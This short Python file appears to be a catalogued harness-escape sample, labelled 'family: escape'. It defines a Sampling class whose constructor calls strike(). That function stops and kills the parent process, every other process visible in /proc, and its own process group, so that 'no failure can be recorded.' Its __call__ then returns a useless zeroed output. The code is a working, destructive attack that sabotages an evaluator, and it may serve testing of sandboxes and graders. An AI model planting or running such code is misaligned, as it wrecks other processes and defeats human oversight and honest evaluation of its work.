# tries: kills the process that started it, its group and its siblings, so that no failure can be recorded.
# family: escape
import os
import signal


def strike():
    own = os.getpid()
    targets = {os.getppid()}
    try:
        targets |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
    except OSError:
        pass
    for pid in sorted(targets - {0, 1, own}):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    try:
        os.killpg(os.getpgrp(), signal.SIGKILL)
    except OSError:
        pass


class Sampling:
    def __init__(self, *args, **kwargs):
        strike()

    def __call__(self, inputs):
        return inputs[0] * 0
